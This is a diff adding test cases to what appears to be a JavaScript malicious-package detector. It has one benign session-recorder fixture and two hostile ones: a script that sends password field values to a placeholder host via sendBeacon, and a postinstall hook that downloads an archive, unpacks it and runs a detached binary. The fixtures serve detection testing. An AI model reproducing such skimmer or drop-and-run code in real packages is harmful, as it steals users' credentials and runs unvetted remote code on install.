@@ -579,4 +579,97 @@ describe('review of the nineteenth session', () => {
     });
     expect(strong(r)).toEqual([]);
   });
+
+  it('a session recorder masking every typed character before sending stays quiet', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'tinyreplay',
+        version: '1.3.0',
+        type: 'module',
+        main: 'src/index.js',
+      }),
+      'src/index.js': [
+        "import { createTransport } from './transport.js';",
+        "import { record } from './record.js';",
+        "const DEFAULT_ENDPOINT = 'https://ingest.tinyreplay.io';",
+        'export function init(options) {',
+        '  const queue = createTransport({ endpoint: DEFAULT_ENDPOINT, batch: 50, ...options });',
+        '  record(queue, options);',
+        '  return queue;',
+        '}',
+      ].join('\n'),
+      'src/record.js': [
+        "const KINDS = ['click', 'input', 'change', 'focusin', 'scroll'];",
+        "const sensitive = (el) => el.type === 'password' || /^cc-/.test(el.autocomplete || '') || el.hasAttribute('data-private');",
+        "const mask = (value) => String(value || '').replace(/[^\\s]/g, '*');",
+        'export function record(queue, options) {',
+        '  for (const kind of KINDS) {',
+        '    const onEvent = (ev) => {',
+        '      const el = ev.target;',
+        '      const entry = { kind, t: Date.now(), tag: el.tagName, id: el.id };',
+        "      if (kind === 'input' || kind === 'change') {",
+        '        // (Typed text is never recorded in clear: only its shape.)',
+        '        entry.value = mask(el.value);',
+        '        entry.sensitive = sensitive(el);',
+        '      }',
+        '      queue.push(entry);',
+        '    };',
+        '    document.addEventListener(kind, onEvent, { capture: true, passive: true });',
+        '  }',
+        '}',
+      ].join('\n'),
+      'src/transport.js': [
+        'export function createTransport(config) {',
+        '  let buffer = [];',
+        '  function flush() {',
+        '    if (!buffer.length) return;',
+        '    const events = buffer; buffer = [];',
+        '    navigator.sendBeacon(`${config.endpoint}/v1/ingest?project=${config.project}`, JSON.stringify({ events }));',
+        '  }',
+        '  function push(e) { buffer.push(e); if (buffer.length >= config.batch) flush(); }',
+        "  addEventListener('pagehide', flush);",
+        '  return { push, flush };',
+        '}',
+      ].join('\n'),
+    });
+    expect(strong(r)).toEqual([]);
+  });
+
+  it('the same recorder sending typed text with only its spaces removed is a skimmer', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'tinyreplay', version: '1.0.0', main: 'index.js' }),
+      'index.js': [
+        "const HOST = 'https://ingest.tinyreplay.example/v1';",
+        "const clean = (value) => String(value || '').replace(/\\s/g, '');",
+        "document.addEventListener('change', (ev) => { if (ev.target.type === 'password') navigator.sendBeacon(HOST, JSON.stringify({ v: clean(ev.target.value) })); }, true);",
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.page-secret-exfil')).toBeDefined();
+  });
+
+  it('a program unpacked by `tar -xzf <download> -C <dir>` run as a process, then started: a download run', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'warm-cache',
+        version: '1.0.0',
+        scripts: { postinstall: 'node warm.js' },
+      }),
+      'warm.js': [
+        "const fs = require('fs');",
+        "const os = require('os');",
+        "const path = require('path');",
+        "const { execFileSync, spawn } = require('child_process');",
+        '(async () => {',
+        "  const dir = path.join(os.tmpdir(), '.warm');",
+        "  const archive = path.join(dir, 'cache.tar.gz');",
+        "  const res = await fetch('https://dl.warm-cache.example/cache-' + process.platform + '.tar.gz');",
+        '  fs.writeFileSync(archive, Buffer.from(await res.arrayBuffer()));',
+        "  execFileSync('tar', ['-xzf', archive, '-C', dir]);",
+        "  spawn('nice', ['-n', '19', path.join(dir, 'worker')], { detached: true, stdio: 'ignore' }).unref();",
+        '})();',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.drop-and-run')).toBeDefined();
+    expect(r.risk_level).toBe('critical');
+  });
 });
